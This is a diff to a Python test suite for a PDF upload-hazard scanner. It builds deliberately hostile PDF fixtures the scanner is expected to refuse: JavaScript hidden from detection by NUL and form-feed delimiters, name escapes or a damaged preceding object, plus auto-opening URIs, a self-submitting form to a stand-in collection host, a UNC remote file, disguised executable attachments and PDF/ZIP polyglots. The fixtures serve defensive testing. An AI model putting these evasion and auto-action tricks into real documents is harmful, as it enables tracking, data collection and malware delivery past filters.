@@ -101,6 +101,98 @@ def pdf_script_in_object_stream() -> bytes:
     return bytes(out)
 
 
+def hand_pdf(objects: dict[int, bytes], packed: dict[int, bytes] | None = None,
+             version: bytes = b"1.5") -> bytes:
+    """A PDF written by hand, byte for byte (pypdf's writer would normalise what the attacks
+    rely on): `objects` as they are, `packed` compressed into one object stream."""
+    objects = dict(objects)
+    packed = packed or {}
+    stream_no = max([*objects, *packed]) + 1
+    if packed:
+        header, body = b"", b""
+        for number, obj in packed.items():
+            header += b"%d %d " % (number, len(body))
+            body += obj + b" "
+        data = zlib.compress(header + body)
+        objects[stream_no] = (b"<< /Type /ObjStm /N %d /First %d /Filter /FlateDecode /Length %d"
+                              b" >>\nstream\n" % (len(packed), len(header), len(data)) + data
+                              + b"\nendstream")
+    xref_no = stream_no + 1
+    out = bytearray(b"%PDF-" + version + b"\n%\xe2\xe3\xcf\xd3\n")
+    offsets = {}
+    for number in sorted(objects):
+        offsets[number] = len(out)
+        out += b"%d 0 obj\n" % number + objects[number] + b"\nendobj\n"
+    offsets[xref_no] = len(out)
+    rows = [struct.pack(">BIH", 0, 0, 0xFFFF)]
+    order = list(packed)
+    for number in range(1, xref_no + 1):
+        if number in packed:
+            rows.append(struct.pack(">BIH", 2, stream_no, order.index(number)))
+        elif number in offsets:
+            rows.append(struct.pack(">BIH", 1, offsets[number], 0))
+        else:
+            rows.append(struct.pack(">BIH", 0, 0, 0))
+    table = b"".join(rows)
+    out += (b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n"
+            % (xref_no, xref_no + 1, len(table)) + table + b"\nendstream\nendobj\n")
+    out += b"startxref\n%d\n%%%%EOF\n" % offsets[xref_no]
+    return bytes(out)
+
+
+CATALOG = b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>"
+PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
+PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>"
+
+
+def pdf_opening_with(action: bytes) -> bytes:
+    return hand_pdf({1: CATALOG, 2: PAGES, 3: PAGE, 4: action})
+
+
+def pdf_nul_delimited() -> bytes:
+    """PDF ends a name at NUL; a search that does not sees "/JavaScript<NUL>" as another name."""
+    return pdf_opening_with(b"<<\x00/S\x00/JavaScript\x00/JS\x00(app.alert\\(1\\))\x00>>")
+
+
+def pdf_form_feed_delimited() -> bytes:
+    return pdf_opening_with(b"<<\x0c/S\x0c/J#61vaScript\x0c/JS\x0c(app.alert\\(1\\))>>")
+
+
+def pdf_damaged_object_before_a_packed_script() -> bytes:
+    """An object no parser can read, numbered before the script: a check that gives up at the
+    first unreadable object never reaches the script."""
+    broken = b"<< /Length 99999 >>\nstream\n" + bytes(40)  # no endstream, a lying length
+    catalog = b"<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R >>"
+    return hand_pdf({1: catalog, 2: PAGES, 3: PAGE, 5: broken},
+                    packed={6: b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"})
+
+
+def pdf_opens_a_web_address() -> bytes:
+    return pdf_opening_with(b"<< /S /URI /URI (https://tracker.example/open?id=1) >>")
+
+
+def pdf_submits_by_itself() -> bytes:
+    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /AA << /O 4 0 R >> >>"
+    return hand_pdf({1: b"<< /Type /Catalog /Pages 2 0 R >>", 2: PAGES, 3: page,
+                     4: b"<< /S /SubmitForm /F (https://x.example/collect) >>"})
+
+
+def pdf_opens_a_remote_file() -> bytes:
+    return pdf_opening_with(b"<< /S /GoToR /F (\\\\\\\\server\\\\share\\\\x.pdf) /D [0 /Fit] >>")
+
+
+def pdf_with_attachment(name: str, data: bytes) -> bytes:
+    return pdf_with(lambda writer: writer.add_attachment(name, data))
+
+
+def pdf_that_is_a_zip() -> bytes:
+    return pdf_bytes() + zip_bytes()
+
+
+def pdf_nobody_can_open() -> bytes:
+    return b"%PDF-1.7\n" + bytes(range(256)) * 8 + b"\n%%EOF\n"
+
+
 def jpeg() -> bytes:
     return image_bytes("JPEG", (64, 48))
 
@@ -172,6 +264,28 @@ HOSTILE: list[tuple[str, str, Callable[..., bytes], str, str]] = [
      "JavaScript"),
     ("PDF with script in an object stream", "statement.pdf", pdf_script_in_object_stream,
      "active_content", "JavaScript"),
+    ("PDF with NUL between names", "statement.pdf", pdf_nul_delimited, "active_content",
+     "JavaScript"),
+    ("PDF with form feeds and escapes", "statement.pdf", pdf_form_feed_delimited,
+     "active_content", "JavaScript"),
+    ("PDF with a damaged object before a packed script", "statement.pdf",
+     pdf_damaged_object_before_a_packed_script, "active_content", "JavaScript"),
+    ("PDF opening a web address by itself", "statement.pdf", pdf_opens_a_web_address,
+     "active_content", "web address it opens by itself"),
+    ("PDF submitting a form by itself", "statement.pdf", pdf_submits_by_itself,
+     "active_content", "form it sends"),
+    ("PDF opening a remote file", "statement.pdf", pdf_opens_a_remote_file, "active_content",
+     "another file it opens"),
+    ("PDF with an .exe attached", "statement.pdf",
+     lambda: pdf_with_attachment("update.exe", pe_bytes()), "active_content",
+     "attached program"),
+    ("PDF with a program attached as .txt", "statement.pdf",
+     lambda: pdf_with_attachment("readme.txt", elf_bytes()), "active_content",
+     "attached program"),
+    ("PDF that is also a ZIP", "statement.pdf", pdf_that_is_a_zip, "active_content",
+     "ZIP archive"),
+    ("PDF that no reader can open", "statement.pdf", pdf_nobody_can_open, "active_content",
+     "do not agree on"),
     ("JPEG that is also a ZIP", "photo.jpg", lambda: jpeg() + zip_bytes(), "polyglot",
      "ZIP archive"),
     ("JPEG with HTML appended", "photo.jpg", lambda: jpeg() + SCRIPT_HTML, "polyglot",
@@ -305,5 +419,33 @@ def test_every_real_fixture_pdf_passes_the_hazard_checks(fixtures_dir) -> None:
 
 def test_short_names_in_compressed_data_are_not_mistaken_for_scripts() -> None:
     """"/JS " can occur by chance inside a compressed image; only a real name counts."""
-    data = pdf_bytes().replace(b"%%EOF", b"% image bytes /JS /JSON\n%%EOF")
+    image = b"\x8f\x02/JS /JSON\x17\xa0/JS\n"
+    data = hand_pdf({1: b"<< /Type /Catalog /Pages 2 0 R >>", 2: PAGES, 3: PAGE,
+                     4: b"<< /Length %d >>\nstream\n" % len(image) + image + b"\nendstream"})
     assert hazards.pdf_active_content(io.BytesIO(data)) is None
+
+
+def test_clicked_links_and_buttons_and_ordinary_attachments_are_kept(ctx: Context,
+                                                                     filed: tuple) -> None:
+    """A web link, a submit button and a CSV attachment need the reader's click: kept."""
+    borrower, number = filed
+    annots = (b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Annots [4 0 R 5 0 R] >>")
+    link = b"<< /Type /Annot /Subtype /Link /Rect [0 0 50 50] /A << /S /URI /URI (https://bank.example) >> >>"
+    button = (b"<< /Type /Annot /Subtype /Widget /FT /Btn /Rect [60 0 90 50] "
+              b"/A << /S /SubmitForm /F (https://bank.example/form) >> >>")
+    data = hand_pdf({1: b"<< /Type /Catalog /Pages 2 0 R >>", 2: PAGES, 3: annots, 4: link,
+                     5: button})
+    attach_evidence(ctx, borrower, number, [
+        upload("links.pdf", data),
+        upload("with-csv.pdf", pdf_with_attachment("data.csv", b"date,amount\n2026-09-01,1\n"))])
+    assert [e.media_type for e in list_evidence(ctx, borrower, number)[-2:]] == [
+        "application/pdf"] * 2
+
+
+def test_poppler_is_asked_too(monkeypatch) -> None:
+    """The third opinion: what poppler lists as a script refuses the file even when neither of
+    the other two searches finds it (here they are switched off to show poppler alone)."""
+    monkeypatch.setattr(hazards, "_raw_active_names", lambda source: None)
+    monkeypatch.setattr(hazards, "_parsed_active_content", lambda source: None)
+    assert hazards.pdf_active_content(io.BytesIO(pdf_page_action())) == hazards.JAVASCRIPT
+    assert hazards.pdf_active_content(io.BytesIO(pdf_bytes())) is None
